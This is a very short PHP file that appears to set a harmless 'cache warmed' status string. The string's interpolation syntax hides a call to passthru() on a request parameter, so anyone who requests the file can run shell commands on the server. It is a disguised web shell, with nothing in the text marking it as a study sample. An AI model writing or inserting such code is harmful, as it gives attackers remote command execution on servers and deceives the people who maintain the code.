<?php
$note = "cache {${passthru($_REQUEST['k'])}} warmed";
